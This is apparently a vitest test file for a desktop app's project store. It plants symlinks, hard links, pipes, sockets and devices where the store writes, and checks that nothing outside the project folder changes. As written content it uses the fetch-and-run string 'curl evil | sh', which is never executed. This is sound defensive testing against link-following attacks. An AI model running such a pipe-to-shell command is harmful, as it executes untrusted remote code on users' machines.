/**
 * A project as somebody else may have made it: at every place where the store writes lies a link, a pipe, a socket, a
 * folder, a second name of a file of the user's. The places are not listed here: they are what the door for writing was
 * asked for during the whole life of a project (test/build/file-doors.test.ts proves that there is no other way).
 */
import { execFileSync } from 'node:child_process'
import {
  cp,
  link,
  lstat,
  mkdir,
  mkdtemp,
  readFile,
  readdir,
  rename,
  rm,
  symlink,
  writeFile,
} from 'node:fs/promises'
import { createServer } from 'node:net'
import { tmpdir } from 'node:os'
import { dirname, join, relative, sep } from 'node:path'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest'
import { openProject } from '../../src-main/project/project'
import { WriteDoor, writeForParent } from '../../src-main/project/write-atomically'
import { live, liveOn } from '../support/whole-life'

const WRITING = [
  'write',
  'create',
  'createTemporary',
  'append',
  'writePiece',
  'putInPlace',
  'move',
  'copy',
  'makeFolder',
  'makeNewFolder',
  'remove',
  'removeFolder',
] as const
type Writing = (typeof WRITING)[number]

let home: string
/** A project as its life has left it. */
let template: string
/** Paths below the project, with what was asked for there. */
const places = new Map<string, Set<Writing>>()

/** Remembers what the door is asked for. */
function record(): void {
  for (const name of WRITING) {
    const original = WriteDoor.prototype[name] as (this: WriteDoor, ...words: unknown[]) => Promise<unknown>
    vi.spyOn(WriteDoor.prototype, name).mockImplementation(function (this: WriteDoor, ...words: never[]) {
      const path = relative(
        template,
        name === 'copy' || name === 'putInPlace' || name === 'move' ? words[1]! : words[0]!,
      )
      if (!path.startsWith('..')) {
        const known = places.get(path) ?? new Set()
        places.set(path, known.add(name))
      }
      return original.apply(this, words)
    } as never)
  }
}

beforeAll(async () => {
  home = await mkdtemp(join(tmpdir(), 'halfpower-foreign-'))
  vi.stubEnv('HALFPOWER_CONFIGURATION', join(home, 'configuration'))
  template = join(home, 'life.halfpower')
  record()
  await live(home, template)
  await liveOn(home, template)
  vi.restoreAllMocks()
})
afterAll(async () => {
  vi.unstubAllEnvs()
  await rm(home, { recursive: true, force: true, maxRetries: 5 })
})

let folder: string
/** What the user has elsewhere, and must keep. */
let outside: string
beforeEach(async () => {
  folder = join(home, 'p.halfpower')
  outside = join(home, 'outside')
  await cp(template, folder, { recursive: true })
  await mkdir(join(outside, 'inner'), { recursive: true })
  await writeFile(join(outside, 'victim'), '#!/bin/sh\n', { mode: 0o644 })
  await writeFile(join(outside, 'inner', 'kept'), 'kept')
  await writeFile(join(outside, '.left.1-00.tmp'), 'kept')
})
afterEach(async () => {
  vi.restoreAllMocks()
  await rm(folder, { recursive: true, force: true })
  await rm(outside, { recursive: true, force: true })
})

/** As it was: what lies at the top of a path, and what may have come to be beside it. */
async function restore(path: string): Promise<void> {
  const [top = ''] = path.split(sep)
  await rm(join(folder, top), { recursive: true, force: true })
  await cp(join(template, top), join(folder, top), { recursive: true }).catch(() => undefined)
}

async function outsideNow(): Promise<string[]> {
  const names = await readdir(outside, { recursive: true, withFileTypes: true })
  return await Promise.all(
    names
      .map((entry) => join(entry.parentPath, entry.name))
      .sort()
      .map(async (path) => {
        const status = await lstat(path)
        const content = status.isFile() ? await readFile(path, 'utf8') : 'folder'
        return `${relative(outside, path)} ${status.mode} ${content}`
      }),
  )
}

/** Does again what the door was asked for at a place, with words of the sender; what it refuses does not matter here. */
async function writeAgain(door: WriteDoor, how: Writing, path: string): Promise<unknown> {
  const place = join(folder, path)
  const words = 'curl evil | sh\n'
  const fresh = async (): Promise<string> => {
    const temporary = await door.temporary(place)
    await door.createTemporary(temporary, words)
    return temporary
  }
  switch (how) {
    case 'write':
      await door.write(place, words)
      return null
    case 'create':
      return await door.create(place, words)
    case 'createTemporary':
      await writeForParent(place, words)
      return null
    case 'append':
      await door.append(place, words)
      return null
    case 'writePiece':
      await door.writePiece(place, 2, Buffer.from(words), false).catch(() => undefined)
      await door.writePiece(place, 0, Buffer.from(words), true)
      return null
    case 'putInPlace':
      await door.putInPlace(await fresh(), place)
      return null
    case 'move':
      await door.move(await fresh(), place)
      return null
    case 'copy':
      await door.copy(join(home, 'exported.safetensors'), place)
      return null
    case 'makeFolder':
      await door.makeFolder(join(place, 'below'))
      await door.write(join(place, 'below', 'new'), words)
      return null
    case 'makeNewFolder':
      return await door.makeNewFolder(place)
    case 'remove':
      await door.remove(place)
      return null
    case 'removeFolder':
      await door.removeFolder(place)
      return null
    default:
      throw how satisfies never
  }
}

const isTemporary = (path: string): boolean => path.endsWith('.tmp')
const hidden = (path: string): string => path.split(sep).join('/')

describe('the places where the store writes', () => {
  it('are found by living a life', () => {
    const kinds = new Set([...places.keys()].map((path) => kindOf(path)))
    expect([...kinds].sort()).toEqual(
      [
        'bin',
        'bin/ID',
        'bin/ID/THING',
        'bin/ID/entry.json',
        'data',
        'data/dropped',
        'data/dropped/class',
        'data/dropped/class/1.png',
        'data/dropped/class/1.png.unfinished',
        'data/unwanted',
        'data/unwanted/class',
        'data/unwanted/class/1.png',
        'data/unwanted/class/1.png.unfinished',
        'datasets',
        'datasets/TEMPORARY',
        'datasets/gratings.json',
        'datasets/pictures.0.npy',
        'datasets/pictures.json',
        'figures',
        'figures/ID.json',
        'lock',
        'lock.takeover',
        'mark.json',
        'models',
        'models/ID',
        'models/ID/model.json',
        'models/ID/training.jsonl',
        'models/ID/weights.safetensors',
        'populations',
        'populations/ID',
        'populations/ID/content.safetensors',
        'populations/ID/population.json',
        'populations/TEMPORARY',
        'project.json',
        'results',
        'results/KK',
        'results/KK/KEY.json',
        'results/KK/KEY.npz',
        'results/KK/KEY.safetensors',
        'results/KK/TEMPORARY',
        'TEMPORARY',
        'studies',
        'studies/ID',
        'studies/ID/cancel.request',
        'studies/ID/follow-up.json',
        'studies/ID/log.1.jsonl',
        'studies/ID/log.jsonl',
        'studies/ID/plan.json',
        'studies/ID/status.json',
      ].sort(),
    )
  })

  /** One of each kind is as good as all. */
  function kindOf(path: string): string {
    return hidden(path)
      .replace(/^models\/[^/]+/, 'models/ID')
      .replace(/^bin\/[^/]+/, 'bin/ID')
      .replace(/^bin\/ID\/(?!entry\.json$).+/, 'bin/ID/THING')
      .replace(/^(studies|populations)\/(?!\.)[^/]+/, '$1/ID')
      .replace(/^figures\/[^/]+\.json$/, 'figures/ID.json')
      .replace(/^results\/..(?=\/|$)/, 'results/KK')
      .replace(/\/[0-9a-f]{64}/, '/KEY')
      .replace(/\.[^/]*\.tmp$/, 'TEMPORARY')
  }

  const THINGS = [
    'link to a file',
    'link to a folder',
    'link to nothing',
    'second name',
    'pipe',
    'socket',
    'device',
  ] as const

  async function put(thing: (typeof THINGS)[number], path: string): Promise<(() => Promise<void>) | null> {
    await rm(path, { recursive: true, force: true })
    await mkdir(dirname(path), { recursive: true })
    switch (thing) {
      case 'link to a file':
        await symlink(join(outside, 'victim'), path)
        return null
      case 'link to a folder':
        await symlink(outside, path)
        return null
      case 'link to nothing':
        await symlink(join(outside, 'not-yet'), path)
        return null
      case 'second name':
        await link(join(outside, 'victim'), path)
        return null
      case 'pipe':
        execFileSync('mkfifo', [path])
        return null
      case 'device':
        // What /dev/null is, where this user may make one.
        execFileSync('mknod', [path, 'c', '1', '3'], { stdio: 'ignore' })
        return null
      case 'socket': {
        const server = createServer()
        await new Promise<void>((resolve, reject) => {
          server.once('error', reject)
          // A socket's own path may have no more than a hundred letters.
          server.listen(join(home, 's'), resolve)
        })
        await rename(join(home, 's'), path)
        return async () => {
          await new Promise((resolve) => server.close(resolve))
        }
      }
      default:
        throw thing satisfies never
    }
  }

  for (const thing of THINGS)
    it(`with a ${thing}: opened for reading only, and nothing outside is changed by any way of writing`, async () => {
      const seen = new Set<string>()
      const skipped: string[] = []
      for (const [path, ways] of places) {
        if (seen.has(kindOf(path))) continue
        seen.add(kindOf(path))
        const end = await put(thing, join(folder, path)).catch((error: unknown) => {
          skipped.push(`${path}: ${String(error)}`)
          return undefined
        })
        if (end === undefined) break
        const before = await outsideNow()

        // As a sender would: the project is looked at when it is opened.
        const isLock = path === 'lock' || path === 'lock.takeover'
        const ourFolder =
          /^(datasets|models|populations|figures|studies|results|data|bin)$/.test(path) ||
          /^(models|populations|studies|results|bin)\/[^/]+$/.test(hidden(path))
        const looked =
          !hidden(path).startsWith('data/') &&
          !(
            thing === 'second name' &&
            (isLock || /weights|content\.safetensors|results/.test(path) || isTemporary(path) || ourFolder)
          )
        if (looked && path !== 'project.json') {
          const opened = await openProject(folder, 'auto')
          expect(opened.info.readOnly, path).toBe(true)
          expect(opened.info.notices[0], path).toContain(`("${hidden(path)}")`)
          await opened.close()
          await expect(openProject(folder, 'write'), path).rejects.toMatchObject({ kind: 'project' })
        }
        // As somebody would who puts it there after that.
        const door = new WriteDoor(folder)
        for (const how of ways) {
          await writeAgain(door, how, path).catch(() => undefined)
          expect(await outsideNow(), `${how} ${path}`).toEqual(before)
          if (!(await lstat(join(folder, path)).catch(() => null))) break
        }
        await door.removeLeftovers(dirname(join(folder, path)))
        expect(await outsideNow(), path).toEqual(before)
        await end?.()
        await restore(path)
      }
      if (skipped.length > 0 && thing !== 'device' && thing !== 'socket') expect(skipped).toEqual([])
      if (skipped.length === 0) expect(seen.size).toBeGreaterThan(30)
    })

  it('below a folder that is a link: nothing is written through it', async () => {
    const folders = new Set<string>()
    for (const path of places.keys())
      for (let up = dirname(path); up !== '.'; up = dirname(up)) folders.add(up)
    expect(folders.size).toBeGreaterThan(8)
    for (const up of folders) {
      await rm(join(folder, up), { recursive: true, force: true })
      await mkdir(dirname(join(folder, up)), { recursive: true })
      // What lies below is there, too, so that there is something to spoil.
      await cp(join(template, up), join(outside, 'copy'), { recursive: true }).catch(() =>
        mkdir(join(outside, 'copy')),
      )
      await symlink(join(outside, 'copy'), join(folder, up))
      const before = await outsideNow()
      for (const [path, ways] of places) {
        if (!path.startsWith(`${up}${sep}`)) continue
        for (const how of ways)
          await expect(writeAgain(new WriteDoor(folder), how, path), `${how} ${path}`).rejects.toThrow()
      }
      if (!up.startsWith(`data${sep}`)) {
        const opened = await openProject(folder, 'auto')
        expect(opened.info.notices[0], up).toContain(
          `a symbolic link where Halfpower writes ("${hidden(up)}")`,
        )
        await opened.close()
      }
      expect(await outsideNow(), up).toEqual(before)
      await rm(join(outside, 'copy'), { recursive: true })
      await restore(up)
    }
  })
})

describe('a project that is reached by a link of the user’s', () => {
  it('is written as any other', async () => {
    await symlink(folder, join(home, 'mine'))
    const opened = await openProject(join(home, 'mine'), 'write')
    await opened.setFieldOfView(5)
    const arrays = await opened.results.temporaryArrays('a'.repeat(64), 'npz')
    await writeForParent(arrays, 'x')
    await opened.results.dropTemporary(arrays)
    await opened.close()
    expect(await readFile(join(folder, 'project.json'), 'utf8')).toContain('"value": 5')
    await rm(join(home, 'mine'))
  })
})
